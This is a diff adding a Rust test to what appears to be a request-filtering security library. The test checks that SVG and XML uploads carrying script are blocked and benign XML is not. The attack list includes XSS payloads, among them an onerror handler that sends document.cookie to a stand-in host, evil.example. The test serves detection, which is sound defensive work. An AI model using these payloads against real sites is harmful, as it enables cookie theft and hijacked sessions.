@@ -972,3 +972,41 @@ fn xml_bodies_are_read_into_their_values() {
         assert_eq!(blocked(&r, &req), None, "{benign}");
     }
 }
+
+#[test]
+fn script_in_svg_and_xml_is_judged_per_value() {
+    let r = rasp(Config {
+        security_checks: rasp_core::SecurityChecks {
+            flood: Level::Off,
+            ..quiet().security_checks
+        },
+        ..quiet()
+    });
+    let svg = |inner: &str| format!(r#"<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>"#);
+    let attacks = [
+        svg("<script>alert(document.domain)</script>"),
+        r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#.to_string(),
+        svg(r#"<a href="javascript:alert(1)"><text>x</text></a>"#),
+        svg(r#"<image href="x" onerror="fetch('//evil.example/'+document.cookie)"/>"#),
+        // An event handler judged with its name: the value alone is no script.
+        svg(r#"<animate onbegin="top.location='//evil.example'" attributeName="x" dur="1s"/>"#),
+    ];
+    let benign = [
+        svg(r#"<rect width="10" height="10" fill="red"/>"#),
+        r#"<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note><to>Tove</to></note>"#.to_string(),
+        r#"<?xml version="1.0"?><!DOCTYPE note [<!ELEMENT note (to)><!ELEMENT to (#PCDATA)>]><note><to>Tove</to></note>"#.to_string(),
+        r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetPrice xmlns:m="https://www.w3schools.com/prices"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>"#.to_string(),
+    ];
+    for (i, doc) in attacks.iter().chain(benign.iter()).enumerate() {
+        for (m, ct) in ["image/svg+xml", "application/xml"].into_iter().enumerate() {
+            let req = Request::new("POST", "/upload", ip(&format!("10.6.{i}.{m}")))
+                .with_header("Content-Type", ct)
+                .with_body(doc.clone(), false);
+            assert_eq!(
+                blocked(&r, &req).is_some(),
+                i < attacks.len(),
+                "{doc} as {ct}"
+            );
+        }
+    }
+}
